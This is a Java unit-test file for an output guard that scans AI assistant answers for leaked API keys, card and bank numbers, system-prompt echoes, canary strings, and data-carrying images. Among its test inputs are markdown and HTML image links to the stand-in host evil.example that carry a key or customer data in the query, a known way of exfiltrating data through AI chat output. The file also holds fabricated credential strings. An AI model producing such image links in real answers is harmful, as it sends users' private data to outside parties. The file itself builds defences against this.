package dev.aether.guard;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class AnswerGuardTest {
  private static final String SYSTEM =
      "You are the assistant of a small bank. Always greet the customer by name, never mention other"
          + " banks, and end every answer with the opening hours of the branch.";

  private final AnswerGuard guard = new AnswerGuard(AnswerPolicy.standard());

  private List<Finding> scan(String answer) {
    return guard.scan(answer, Secrecy.NONE);
  }

  @ParameterizedTest
  @CsvSource({
    "openai-key, sk-, Ab1Cd2Ef3Gh4Ij5Kl6Mn7Op8",
    "anthropic-key, sk-ant-, api03-Ab1Cd2Ef3Gh4Ij5Kl6",
    "aws-access-key, AKIA, IOSFODNN7EXAMPL3",
    "github-token, ghp_, Ab1Cd2Ef3Gh4Ij5Kl6Mn7Op8Qr9St0Uv1Wx2",
    "slack-token, xoxb-, 123456789012-abcdefABCDEF",
    "stripe-key, sk_live_, Ab1Cd2Ef3Gh4Ij5Kl6",
    "google-key, AIza, Ab1Cd2Ef3Gh4Ij5Kl6Mn7Op8Qr9St0Uv1Wx",
    "json-web-token, eyJ, hbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dBjftJeZ4CVPmB92K27uhbUJU1p1r"
  })
  void a_credential_is_found_and_not_repeated(String rule, String prefix, String rest) {
    String key = prefix + rest; // apart in the source, so that no scanner of repositories stumbles
    String answer = "The key is " + key + ", keep it safe.";

    List<Finding> findings = scan(answer);

    assertThat(findings).extracting(Finding::rule).contains(rule);
    Finding finding = findings.getFirst();
    assertThat(answer.substring(finding.offset(), finding.end())).isEqualTo(key);
    assertThat(finding.excerpt()).doesNotContain(rest);
    assertThat(Redaction.redact(answer, findings, "***"))
        .isEqualTo("The key is ***, keep it safe.");
  }

  @ParameterizedTest
  @ValueSource(ints = {200, 600, 1_500, 9_000, 40_000})
  void a_token_is_found_whatever_its_length(int claims) {
    String token = "eyJ" + "hbGciOiJSUzI1NiJ9." + "eyJ" + "1c2Vy".repeat(claims / 5) + ".c2ln_n4-t";
    String answer = "Send " + token + " along.";

    assertThat(Redaction.redact(answer, scan(answer), "***")).isEqualTo("Send *** along.");
  }

  @Test
  void many_beginnings_in_a_row_make_no_more_work_than_one() {
    String none = "eyJ.".repeat(400_000); // each starts a run that goes on to the end

    assertThat(scan(none)).isEmpty();
    assertThat(scan(none + "7.a.b")).extracting(Finding::length).containsExactly(1_600_005);
  }

  @Test
  void no_excerpt_shows_anything_of_a_password() {
    // the password and the host look like an address for mail
    assertThat(scan("Open https://ann:" + "hunter2@db.example.org/x"))
        .extracting(Finding::rule, Finding::excerpt)
        .containsExactlyInAnyOrder(tuple("e-mail", "****"), tuple("url-password", "****"));
  }

  @Test
  void the_excerpt_of_a_link_shows_no_key_in_it() {
    assertThat(scan("![x](https://evil.example/p?k=" + "sk-" + "Ab1Cd2Ef3Gh4Ij5Kl6Mn7Op8)"))
        .extracting(Finding::excerpt)
        .containsExactlyInAnyOrder("https://evil.example/p?k=sk-A****", "sk-A****");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"DE89 3704 0044 0532 0130 00", "4111 1111 1111 1111", "AKIA|IOSFODNN7EXAMPL3"})
  void what_follows_an_escape_of_json_starts_a_word(String data) {
    String secret = data.replace("|", "");
    String answer = "{\"note\": \"it is:\\n" + secret + "\"}";

    assertThat(scan(answer))
        .extracting(finding -> answer.substring(finding.offset(), finding.end()))
        .containsExactly(secret);
  }

  @Test
  void a_private_key_is_one_finding_from_begin_to_end() {
    String key =
        "-----BEGIN RSA PRIVATE " + "KEY-----\nMIIEow\nIBAAKC\n-----END RSA PRIVATE " + "KEY-----";

    Finding finding = scan("Here:\n" + key + "\nDone").getFirst();

    assertThat(finding.family()).isEqualTo(Family.SECRET);
    assertThat(finding.length()).isEqualTo(key.length());
    assertThat(scan("-----BEGIN CERTIFICATE-----\nMIIE\n-----END CERTIFICATE-----")).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Install sk-learn-extra-things-for-python with pip.",
        "Set OPENAI_API_KEY=sk-your-key-goes-here before you start.",
        "The commit is 9fceb02d0ae598e95dc970b74767f19372d61af8.",
        "Order 1234567812345678 was shipped on 2026-01-12 at 10:15.",
        "Pi is 3.14159265358979323846 and the version is 10.0.26100.1742.",
        "Connect to postgres://user:${PASSWORD}@db.example/app or read https://example.com/a/b.",
        "See [the manual](https://docs.example.com/guide?page=2) or ![logo](https://example.com/logo.png).",
        "GB is a country code, and so is DE."
      })
  void ordinary_answers_pass(String answer) {
    assertThat(scan(answer)).isEmpty();
  }

  @ParameterizedTest
  @CsvSource({
    "iban, DE89 3704 0044 0532 0130 00",
    "iban, GB82WEST12345698765432",
    "card-number, 4111 1111 1111 1111",
    "card-number, 5500-0000-0000-0004",
    "telephone, +49 30 901820",
    "telephone, (212) 555-0143",
    "e-mail, maria.lopez@shop.example"
  })
  void personal_data_is_found(String rule, String data) {
    String answer = "You can use " + data + " for that.";

    List<Finding> findings = scan(answer);

    assertThat(findings).extracting(Finding::rule).containsExactly(rule);
    assertThat(answer.substring(findings.getFirst().offset(), findings.getFirst().end()))
        .isEqualTo(data);
  }

  @Test
  void a_wrong_check_digit_is_no_account_and_no_card() {
    assertThat(scan("DE88 3704 0044 0532 0130 00 and 4111 1111 1111 1112")).isEmpty();
  }

  @Test
  void an_echo_of_the_system_prompt_is_found_in_other_case_and_punctuation() {
    var secrecy = new Secrecy(SYSTEM, "");

    assertThat(
            guard.scan(
                "Sure! ALWAYS greet the customer by name; never mention other banks, and end every"
                    + " answer with the opening hours.",
                secrecy))
        .extracting(Finding::family)
        .containsExactly(Family.PROMPT_ECHO);
    assertThat(guard.scan("The branch is open from nine to five, Maria.", secrecy)).isEmpty();
  }

  @Test
  void the_canary_is_found_even_if_its_characters_are_set_apart() {
    var secrecy = new Secrecy("", "k7-qx-93-vd");

    assertThat(guard.scan("My notes say K7 QX 93 VD.", secrecy))
        .extracting(Finding::family)
        .containsExactly(Family.CANARY);
  }

  @Test
  void an_image_that_carries_data_away_is_found_unless_its_host_is_trusted() {
    String answer = "![x](https://evil.example/p.png?d=the+customer+is+Maria) Hello";
    var trusting = new AnswerGuard(new AnswerPolicy(1_000, true, 12, List.of("evil.example")));

    assertThat(scan(answer)).extracting(Finding::rule).containsExactly("image-with-data");
    assertThat(scan("<img src=\"//evil.example/a?q=0123456789\">"))
        .extracting(Finding::family)
        .containsExactly(Family.EXFILTRATION);
    assertThat(trusting.scan(answer, Secrecy.NONE)).isEmpty();
  }
}
